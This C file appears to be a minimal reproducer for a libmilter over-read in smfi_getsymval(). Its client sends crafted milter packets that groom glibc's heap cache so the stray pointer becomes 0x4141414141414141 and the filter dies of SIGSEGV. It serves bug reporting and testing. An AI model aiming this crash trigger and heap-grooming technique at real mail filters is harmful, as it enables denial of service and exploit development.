/*
 * oddmacro.c - the smallest reproduction of libmilter's over-read on a
 * macro packet with an odd number of strings (contrib/libmilter/README).
 *
 *   oddmacro filter SOCKET   a libmilter filter on unix:SOCKET whose
 *                            connect callback asks for one macro the MTA
 *                            did not send, as any filter may
 *   oddmacro client SOCKET   the MTA side: negotiation, then a macro
 *                            packet for CONNECT holding three strings
 *                            ("j", "mx", "{x}": a name without a value),
 *                            then CONNECT; prints what the filter answered
 *
 * libmilter's dec_argv() stores the three strings in an array of four
 * pointers (the fourth is NULL), and smfi_getsymval() steps through it two
 * at a time: after "{x}" it reads the fifth pointer, one past the end of
 * the array, and hands it to strcmp().  The client first sends a macro
 * packet for a stage libmilter does not know, which libmilter reads into a
 * buffer of the array's size class and frees: the array is then allocated
 * from that buffer (glibc's per-thread cache) and the pointer read past its
 * end is 0x4141414141414141.  Without valgrind or a sanitizer the filter
 * then dies of SIGSEGV inside smfi_getsymval(); under valgrind the first
 * report is "Invalid read of size 8 ... 0 bytes after a block" in
 * smfi_getsymval.  With libmilter fixed the filter prints "(null)" and the
 * client gets CONTINUE.
 *
 * The client exits 0 when the filter answered CONNECT, 1 when the
 * connection closed without an answer (the filter died), 2 on a usage or
 * socket error.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <libmilter/mfapi.h>
#include <libmilter/mfdef.h>

/* what_connect - ask for a macro that was not sent: a walk to the end */
static sfsistat
what_connect(SMFICTX *ctx, char *host, struct sockaddr *sa)
{
	const char *v = smfi_getsymval(ctx, "{absent}");

	(void)host;
	(void)sa;
	fprintf(stderr, "oddmacro filter: {absent} = %s\n", v ? v : "(null)");
	return SMFIS_CONTINUE;
}

static int
filter(const char *path)
{
	static char name[] = "oddmacro";
	static char conn[sizeof("unix:") + 108];
	struct smfiDesc desc;

	memset(&desc, 0, sizeof(desc));
	desc.xxfi_name = name;
	desc.xxfi_version = SMFI_VERSION;
	desc.xxfi_connect = what_connect;
	snprintf(conn, sizeof(conn), "unix:%s", path);
	if (smfi_setconn(conn) != MI_SUCCESS ||
	    smfi_register(desc) != MI_SUCCESS ||
	    smfi_opensocket(1) != MI_SUCCESS)
		return 2;
	return smfi_main() == MI_SUCCESS ? 0 : 2;
}

/* send_packet - length, command, data; -1 on error */
static int
send_packet(int fd, char cmd, const void *data, size_t n)
{
	unsigned char b[512];
	uint32_t len = htonl((uint32_t)(n + 1));

	if (n + 5 > sizeof(b))
		return -1;
	memcpy(b, &len, 4);
	b[4] = (unsigned char)cmd;
	memcpy(b + 5, data, n);
	return write(fd, b, n + 5) == (ssize_t)(n + 5) ? 0 : -1;
}

/* read_reply - the command byte of the next reply; -1 at EOF */
static int
read_reply(int fd)
{
	unsigned char b[4096];
	uint32_t len;
	size_t got = 0;
	ssize_t n;

	while (got < 4 && (n = read(fd, b + got, 4 - got)) > 0)
		got += (size_t)n;
	if (got < 4)
		return -1;
	memcpy(&len, b, 4);
	len = ntohl(len);
	if (len == 0 || len > sizeof(b))
		return -1;
	for (got = 0; got < len; got += (size_t)n)
		if ((n = read(fd, b + got, len - got)) <= 0)
			return -1;
	return b[0];
}

static int
client(const char *path)
{
	/*
	 * 39 bytes: libmilter's buffer for it is of the array's size class
	 * (32 bytes of pointers), and bytes 32-38 are what the walk reads
	 */
	static const char groom[] = "Zgroom--------------------------"
	                            "AAAAAAA";
	static const char odd[] = "Cj\0mx\0{x}"; /* 3 strings */
	static const char conn[] = "client.test\0"
	                           "4\x09\xdd"
	                           "192.0.2.1";
	uint32_t opt[3] = {htonl(SMFI_PROT_VERSION), htonl(0x1ff),
	                   htonl(0x1fffff)};
	struct sockaddr_un sun;
	int fd, r;

	memset(&sun, 0, sizeof(sun));
	sun.sun_family = AF_UNIX;
	if (strlen(path) >= sizeof(sun.sun_path) ||
	    (fd = socket(AF_UNIX, SOCK_STREAM, 0)) < 0)
		return 2;
	memcpy(sun.sun_path, path, strlen(path) + 1);
	if (connect(fd, (struct sockaddr *)&sun, sizeof(sun)) != 0) {
		fprintf(stderr, "oddmacro client: %s: %s\n", path,
		        strerror(errno));
		return 2;
	}
	if (send_packet(fd, SMFIC_OPTNEG, opt, sizeof(opt)) != 0 ||
	    read_reply(fd) != SMFIC_OPTNEG ||
	    send_packet(fd, SMFIC_MACRO, groom, sizeof(groom) - 1) != 0 ||
	    send_packet(fd, SMFIC_MACRO, odd, sizeof(odd)) != 0 ||
	    send_packet(fd, SMFIC_CONNECT, conn, sizeof(conn)) != 0) {
		fprintf(stderr, "oddmacro client: negotiation failed\n");
		return 2;
	}
	r = read_reply(fd);
	if (r < 0) {
		printf("oddmacro client: CONNECT: no answer, the connection "
		       "closed (the filter died?)\n");
		return 1;
	}
	printf("oddmacro client: CONNECT answered '%c'%s\n", r,
	       r == SMFIR_CONTINUE ? " (continue)" : "");
	(void)send_packet(fd, SMFIC_QUIT, NULL, 0);
	close(fd);
	return 0;
}

int
main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "filter") == 0)
		return filter(argv[2]);
	if (argc == 3 && strcmp(argv[1], "client") == 0)
		return client(argv[2]);
	fprintf(stderr, "usage: oddmacro filter|client SOCKET\n");
	return 2;
}
